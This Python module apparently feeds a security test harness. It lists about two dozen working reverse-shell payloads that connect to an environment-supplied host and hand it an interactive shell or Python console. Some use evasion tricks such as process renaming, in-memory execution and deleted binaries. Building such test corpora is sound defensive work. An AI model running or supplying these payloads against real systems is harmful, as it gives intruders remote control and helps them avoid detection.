"""Shells by Python: the standard stream is the socket, or something in this process carries the bytes to it."""

from __future__ import annotations

from attacks.cases.base import Case
from live.channels import Transport
from live.programs import Language
from live.shells import Speech

_CALL = "import os, socket\nnet = socket.create_connection((os.environ['HOST'], int(os.environ['PORT'])))\n"

CASES = (
    Case(
        name="python-dup2-call",
        language=Language.PYTHON,
        text=_CALL
        + """
import subprocess
for number in (0, 1, 2):
    os.dup2(net.fileno(), number)
subprocess.call(["/bin/sh", "-i"])
""",
    ),
    Case(
        name="python-popen-socket-streams",
        language=Language.PYTHON,
        text=_CALL
        + """
import subprocess
subprocess.Popen("exec bash", shell=True, stdin=net, stdout=net, stderr=subprocess.STDOUT).wait()
""",
    ),
    Case(
        name="python-pty-spawn",
        language=Language.PYTHON,
        text=_CALL
        + """
import pty
[os.dup2(net.fileno(), number) for number in range(3)]
pty.spawn("bash")
""",
    ),
    Case(
        name="python-posix-spawn",
        language=Language.PYTHON,
        text=_CALL
        + """
actions = [(os.POSIX_SPAWN_DUP2, net.fileno(), number) for number in range(3)]
os.waitpid(os.posix_spawn("/bin/sh", ["-sh"], os.environ, file_actions=actions), 0)
""",
    ),
    Case(
        name="python-daemon",
        language=Language.PYTHON,
        text="""
import os, socket, sys
if os.fork():
    sys.exit(0)
os.setsid()
if os.fork():
    os._exit(0)
os.chdir("/")
net = socket.create_connection((os.environ["HOST"], int(os.environ["PORT"])))
os.dup2(net.fileno(), 0), os.dup2(net.fileno(), 1), os.dup2(net.fileno(), 2)
os.execve("/bin/bash", ["data-sync", "--norc", "-s"], {})
""",
    ),
    Case(
        name="python-pipes-threads",
        language=Language.PYTHON,
        text=_CALL
        + """
import subprocess, threading
shell = subprocess.Popen(["bash"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, bufsize=0)

def down():
    while order := net.recv(1024):
        shell.stdin.write(order)

threading.Thread(target=down, daemon=True).start()
while answer := shell.stdout.read(1024):
    net.sendall(answer)
""",
    ),
    Case(
        name="python-socketpair",
        language=Language.PYTHON,
        text=_CALL
        + """
import select, subprocess
near, far = socket.socketpair()
shell = subprocess.Popen(["/bin/sh"], stdin=far, stdout=far, stderr=far)
far.close()
other = {near: net, net: near}
while shell.poll() is None:
    for side in select.select(list(other), [], [], 1)[0]:
        other[side].sendall(side.recv(2048))
""",
    ),
    Case(
        name="python-two-sockets",
        language=Language.PYTHON,
        transport=Transport.PAIR,
        text=_CALL
        + """
import subprocess
back = socket.create_connection((os.environ["HOST"], int(os.environ["PORT2"])))
subprocess.run(["sh"], stdin=net, stdout=back, stderr=back)
""",
    ),
    Case(
        name="python-ipv6",
        language=Language.PYTHON,
        transport=Transport.TCP6,
        text=_CALL + "os.dup2(net.fileno(), 0); os.dup2(0, 1); os.dup2(0, 2); os.execlp('dash', 'dash', '-i')",
    ),
    Case(
        name="python-udp",
        language=Language.PYTHON,
        transport=Transport.UDP,
        text="""
import os, socket, subprocess
net = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
net.connect((os.environ["HOST"], int(os.environ["PORT"])))
net.send(b"ready")
subprocess.call("sh", stdin=net, stdout=net, stderr=net)
""",
    ),
    Case(
        name="python-asyncio",
        language=Language.PYTHON,
        text="""
import asyncio, os

async def pump(source, sink):
    while data := await source.read(4096):
        sink.write(data)
        await sink.drain()

async def main():
    reader, writer = await asyncio.open_connection(os.environ["HOST"], os.environ["PORT"])
    pipe = asyncio.subprocess.PIPE
    shell = await asyncio.create_subprocess_exec("bash", stdin=pipe, stdout=pipe, stderr=asyncio.subprocess.STDOUT)
    await asyncio.gather(pump(reader, shell.stdin), pump(shell.stdout, writer))

asyncio.run(main())
""",
    ),
    Case(
        name="python-tls-pipes",
        language=Language.PYTHON,
        transport=Transport.TLS,
        text=_CALL
        + """
import select, ssl, subprocess
private = ssl._create_unverified_context().wrap_socket(net)
shell = subprocess.Popen("sh", stdin=-1, stdout=-1, stderr=-2)
while shell.poll() is None:
    for side in select.select([private, shell.stdout], [], [], 1)[0]:
        if side is private:
            os.write(shell.stdin.fileno(), private.recv(16384))
        else:
            private.sendall(os.read(side.fileno(), 4096))
""",
    ),
    Case(
        name="python-tls-pty",
        language=Language.PYTHON,
        transport=Transport.TLS,
        text=_CALL
        + """
import pty, selectors, ssl
private = ssl._create_unverified_context().wrap_socket(net)
pid, master = pty.fork()
if not pid:
    os.execlp("sh", "sh", "-i")
ready = selectors.DefaultSelector()
ready.register(private, selectors.EVENT_READ, lambda: os.write(master, private.recv(16384)))
ready.register(master, selectors.EVENT_READ, lambda: private.send(os.read(master, 1024)))
while True:
    for key, _ in ready.select():
        key.data()
""",
    ),
    Case(
        name="python-openpty",
        language=Language.PYTHON,
        text=_CALL
        + """
import select, subprocess
master, slave = os.openpty()
subprocess.Popen(["bash", "--norc", "-i"], stdin=slave, stdout=slave, stderr=slave, start_new_session=True)
os.close(slave)
while True:
    if net in (ready := select.select([net, master], [], [])[0]):
        os.write(master, net.recv(512))
    if master in ready:
        net.send(os.read(master, 512))
""",
    ),
    Case(
        name="python-splice",
        language=Language.PYTHON,
        text=_CALL
        + """
import subprocess, threading
shell = subprocess.Popen(["bash", "-s"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
libc = __import__("ctypes").CDLL(None)
def move(source, sink):
    while libc.splice(source, None, sink, None, 65536, 0) > 0:
        pass
threading.Thread(target=move, args=(net.fileno(), shell.stdin.fileno()), daemon=True).start()
move(shell.stdout.fileno(), net.fileno())
""",
    ),
    Case(
        name="python-passed-descriptor",
        language=Language.PYTHON,
        text="""
import os, socket
near, far = socket.socketpair()
if os.fork() == 0:
    _, (number,), _, _ = socket.recv_fds(far, 1, 1)
    for standard in range(3):
        os.dup2(number, standard)
    os.execl("/bin/sh", "sh")
net = socket.create_connection((os.environ["HOST"], int(os.environ["PORT"])))
socket.send_fds(near, [b"x"], [net.fileno()])
net.close()
os.wait()
""",
    ),
    Case(
        name="python-two-processes-unix-socket",
        language=Language.PYTHON,
        text="""
import os, select, socket, subprocess, sys
if os.fork() == 0:
    os.setsid()
    with socket.socket(socket.AF_UNIX) as door:
        door.bind("wal")
        door.listen()
        guest, _ = door.accept()
    sys.exit(subprocess.call(["bash", "--norc"], stdin=guest, stdout=guest, stderr=guest))
inner = socket.socket(socket.AF_UNIX)
while inner.connect_ex("wal"):
    __import__("time").sleep(0.05)
outer = socket.create_connection((os.environ["HOST"], int(os.environ["PORT"])))
while True:
    for side in select.select([inner, outer], [], [])[0]:
        (outer if side is inner else inner).sendall(side.recv(4096))
""",
    ),
    Case(
        name="python-chain-of-pipes",
        language=Language.PYTHON,
        text=_CALL
        + """
import subprocess
first = subprocess.Popen(["cat"], stdin=net, stdout=subprocess.PIPE)
second = subprocess.Popen(["cat"], stdin=first.stdout, stdout=subprocess.PIPE)
shell = subprocess.Popen(["sh"], stdin=second.stdout, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
subprocess.run(["cat"], stdin=shell.stdout, stdout=net)
""",
    ),
    Case(
        name="python-shell-in-memory",
        language=Language.PYTHON,
        text=_CALL
        + """
image = os.memfd_create("weights")
os.write(image, open("/bin/sh", "rb").read())
os.dup2(net.fileno(), 0), os.dup2(net.fileno(), 1), os.dup2(net.fileno(), 2)
os.execve(image, ["weights"], dict(os.environ))
""",
    ),
    Case(
        name="python-deleted-shell",
        language=Language.PYTHON,
        text=_CALL
        + """
import shutil, subprocess, threading
shutil.copy("/bin/bash", "plot")
child = subprocess.Popen(["./plot"], stdin=net, stdout=net, stderr=net)
os.unlink("plot")
child.wait()
""",
    ),
    Case(
        name="python-prompt",
        language=Language.PYTHON,
        speech=Speech.PYTHON,
        text=_CALL
        + """
import sys
for number in range(3):
    os.dup2(net.fileno(), number)
os.execl(sys.executable, "python", "-i", "-q")
""",
    ),
    Case(
        name="python-prompt-on-pty",
        language=Language.PYTHON,
        speech=Speech.PYTHON,
        text=_CALL
        + """
import pty, sys
for number in range(3):
    os.dup2(net.fileno(), number)
pty.spawn([sys.executable, "-S"])
""",
    ),
    Case(
        name="python-console-in-place",
        language=Language.PYTHON,
        speech=Speech.PYTHON_SYSTEM,
        text=_CALL
        + """
import code
for number in range(3):
    os.dup2(net.fileno(), number)
code.interact(banner="")
""",
    ),
)
